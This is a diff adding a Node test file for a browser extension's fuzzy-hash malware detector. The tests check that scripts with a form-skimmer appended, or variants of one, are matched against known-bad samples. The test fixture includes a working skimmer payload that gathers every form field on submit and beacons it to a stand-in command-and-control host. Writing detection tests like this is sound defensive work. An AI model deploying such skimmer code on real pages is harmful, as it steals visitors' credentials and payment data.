@@ -0,0 +1,56 @@
+// FuzzyHash segments + SimilarityDB containment matching (from firefox-extension/):  node --test test/*.test.js
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const { similaritySandbox, fixture, plain } = require('./helpers/harness');
+
+const LIBRARY = fixture('lib/anime.min.js');
+const SKIMMER = fixture('fingerprints/samples/form-skimmer.js');
+const PAYLOAD = `document.querySelectorAll('form').forEach(function (f) {
+  f.addEventListener('submit', function () {
+    var d = {};
+    for (var i = 0; i < f.elements.length; i++) { var e = f.elements[i]; if (e.name) d[e.name] = e.value; }
+    navigator.sendBeacon('https://c2.example.invalid/collect', JSON.stringify(d));
+  });
+});`;
+
+test('a learned library + payload sample does not match the clean library', async () => {
+  const { FuzzyHash, SimilarityDB } = similaritySandbox();
+  const infected = FuzzyHash.fingerprint(LIBRARY + '\n' + PAYLOAD);
+  await SimilarityDB.addKnownBad('infected', infected, 'anime + skimmer', 'c'.repeat(64));
+
+  assert.equal(await SimilarityDB.findSimilar(FuzzyHash.fingerprint(LIBRARY)), null);
+
+  const variant = LIBRARY + ';' + PAYLOAD.replace('c2.example.invalid', 'cdn.example.invalid').replace(/\bd\b/g, 'data');
+  const match = plain(await SimilarityDB.findSimilar(FuzzyHash.fingerprint(variant)));
+  assert.equal(match.id, 'infected');
+  assert.equal(match.segments, infected.length);
+  assert.ok(match.similarity >= SimilarityDB.config.threshold);
+  assert.equal(await SimilarityDB.findSimilar(infected, 'infected'), null, 'the script itself is excluded');
+});
+
+test('packaged seed samples are found inside other scripts', async () => {
+  const { FuzzyHash, SimilarityDB } = similaritySandbox();
+  const seed = JSON.parse(fixture('fingerprints/index.json'));
+  assert.ok(seed.length >= 3);
+
+  const wrapped = 'window.shop = { cart: [], total: 0 };\n' + SKIMMER.replace('cdn-analytics.example.invalid', 'img.example.invalid').replace("'email'", "'email', 'phone'") + '\n' + LIBRARY;
+  const match = plain(await SimilarityDB.findSimilar(FuzzyHash.fingerprint(wrapped)));
+  assert.equal(match.source, 'packaged');
+  assert.match(match.label, /skimmer/);
+  assert.equal(await SimilarityDB.findSimilar(FuzzyHash.fingerprint(LIBRARY)), null);
+});
+
+test('learned samples are saved under the segment key and the old whole-file key is dropped', async () => {
+  const { FuzzyHash, SimilarityDB, local } = similaritySandbox({ storage: { similaritySamples: [{ id: 'old', fingerprint: 'ab' }] } });
+  SimilarityDB.config.saveDelayMs = 0;
+  const segments = FuzzyHash.fingerprint(PAYLOAD);
+  await SimilarityDB.addKnownBad('a'.repeat(64), segments, 'payload', 'a'.repeat(64));
+  await new Promise(resolve => setTimeout(resolve, 20));
+
+  assert.equal('similaritySamples' in local, false);
+  assert.deepEqual(plain(local.similaritySegments.map(s => [s.id, s.segments.length, s.sourceHash])), [['a'.repeat(64), segments.length, 'a'.repeat(64)]]);
+
+  const { SimilarityDB: reloaded } = similaritySandbox({ storage: { similaritySegments: local.similaritySegments } });
+  await reloaded.load();
+  assert.equal(reloaded.samples.get('a'.repeat(64)).source, 'learned');
+});